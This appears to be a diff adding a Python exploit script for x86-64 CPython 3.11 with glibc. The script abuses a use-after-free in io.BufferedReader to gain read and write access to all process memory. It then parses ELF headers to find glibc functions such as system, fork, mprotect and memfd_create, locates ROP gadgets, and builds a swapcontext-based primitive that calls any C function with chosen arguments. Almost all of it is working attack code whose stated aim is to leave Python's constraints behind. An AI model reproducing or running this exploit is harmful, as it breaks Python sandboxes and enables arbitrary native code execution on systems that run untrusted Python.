@@ -1,0 +1,139 @@
+# Native code from Python alone: a known use after free in CPython (a buffer that a reader hands out and then frees) becomes a window onto all
+# memory, and that a way to call any function of the C library. What stands after this file attacks as a compiled program would; only what the
+# kernel forbids can hold it. For x86-64, CPython 3.11 and glibc.
+import io, re, struct
+
+
+class Holder(io.RawIOBase):
+    def readinto(self, buffer):
+        global window
+        window = buffer
+
+    def readable(self):
+        return True
+
+
+reader = io.BufferedReader(Holder(), 448)
+try:
+    reader.read(1)
+except TypeError:
+    pass
+del reader
+window = window.cast("P")
+# Takes the place that was freed: the window now shows this list's references.
+slots = [None] * len(window)
+
+
+def object_at(address):
+    window[0] = address
+    found = slots[0]
+    window[0] = id(None)
+    return found
+
+
+# A bytearray that begins at address 0 and never ends. The text that it lies in is kept.
+anatomy = struct.pack("<7Q", 1 << 40, id(bytearray), (1 << 63) - 1, 1 << 62, 0, 0, 0)
+memory = object_at(id(anatomy) + 32)
+
+
+def number_at(address, form="<Q"):
+    return struct.unpack(form, memory[address:address + struct.calcsize(form)])[0]
+
+
+def text_at(address):
+    return bytes(memory[address:memory.find(0, address, address + 200)])
+
+
+class Image:
+    """A program or library in memory, found by any address inside."""
+
+    def __init__(self, inside):
+        self.base = inside & ~4095
+        while bytes(memory[self.base:self.base + 4]) != b"\x7fELF":
+            self.base -= 4096
+        bias = 0 if number_at(self.base + 16, "<H") == 2 else self.base
+        self.dynamic, self.code = {}, []
+        for index in range(number_at(self.base + 56, "<H")):
+            header = self.base + number_at(self.base + 32) + index * 56
+            kind, flags, _, address, _, _, size = struct.unpack("<2I5Q", memory[header:header + 48])
+            if kind == 1 and flags & 1:
+                self.code.append((bias + address, size))
+            if kind == 2:
+                for entry in range(bias + address, bias + address + size, 16):
+                    tag, value = number_at(entry), number_at(entry + 8)
+                    self.dynamic[tag] = value + self.base if tag in (5, 6, 7, 23) and value < self.base and bias else value
+        self.bias = bias
+
+    def name(self, symbol):
+        return text_at(self.dynamic[5] + number_at(self.dynamic[6] + 24 * symbol, "<I"))
+
+    def imported(self, name):
+        for table, size in ((23, 2), (7, 8)):
+            for entry in range(self.dynamic.get(table, 0), self.dynamic.get(table, 0) + self.dynamic.get(size, 0), 24):
+                if number_at(entry + 8) >> 32 and self.name(number_at(entry + 8) >> 32) == name:
+                    return number_at(self.bias + number_at(entry))
+
+    def exported(self, *names):
+        found = {}
+        for symbol in range((self.dynamic[5] - self.dynamic[6]) // 24):
+            place = number_at(self.dynamic[6] + 24 * symbol + 8)
+            if place and self.name(symbol) in names:
+                found.setdefault(self.name(symbol).decode(), self.bias + place)
+        return found
+
+    def gadget(self, code):
+        for address, size in self.code:
+            place = memory.find(code, address, address + size)
+            if place >= 0:
+                return place
+
+
+python = Image(number_at(number_at(id(len) + 16) + 8))
+library = Image(python.imported(b"malloc"))
+functions = library.exported(
+    b"getcontext", b"setcontext", b"swapcontext", b"syscall", b"open", b"read", b"system", b"fork", b"mmap", b"mprotect", b"kill", b"memfd_create")
+pop_argument, keep_result = library.gadget(b"\x5f\xc3"), library.gadget(b"\x48\x89\x07\xc3")
+
+arena = bytearray(1 << 18)
+room = number_at(id(arena) + 40) + 4095 & ~4095
+saved, wanted, definition, fake, result = room, room + 4096, room + 8192, room + 12288, room + 16384
+stack, strings = room + (1 << 17) + 8, room + (1 << 17) + 4096
+method = re.compile("x").match
+
+
+def write(address, data):
+    memory[address:address + len(data)] = data
+
+
+def call_with_two(function, first, second):
+    """Calls, with two arguments, what returns 0."""
+    write(definition, struct.pack("<4Q", number_at(number_at(id(method) + 16)), function, number_at(number_at(id(method) + 16) + 16), 0))
+    write(fake, bytes(memory[id(method):id(method) + 64]))
+    write(fake, struct.pack("<Q", 1 << 40))
+    write(fake + 16, struct.pack("<2Q", definition, first))
+    write(fake + 56, struct.pack("<Q", second))
+    try:
+        object_at(fake)()
+    except SystemError:
+        pass
+
+
+def call(function, *arguments):
+    """Calls a function of the C library, or one at an address, with up to six numbers or bytes. Returns what it returned."""
+    numbers, free = [], strings
+    for argument in arguments:
+        if isinstance(argument, bytes):
+            write(free, argument + b"\0")
+            argument, free = free, free + len(argument) + 16 & ~7
+        numbers.append(argument & (1 << 64) - 1)
+    numbers += [0] * (6 - len(numbers))
+    call_with_two(functions["getcontext"], wanted, 0)
+    for place, number in zip((104, 112, 136, 152, 40, 48), numbers):
+        write(wanted + place, struct.pack("<Q", number))
+    write(wanted + 160, struct.pack("<2Q", stack, functions.get(function, function)))
+    # Afterwards: keep what was returned, and go back to where this began.
+    write(stack, struct.pack("<6Q", pop_argument, result, keep_result, pop_argument, saved, functions["setcontext"]))
+    call_with_two(functions["swapcontext"], saved, wanted)
+    return number_at(result, "<q")
+
+
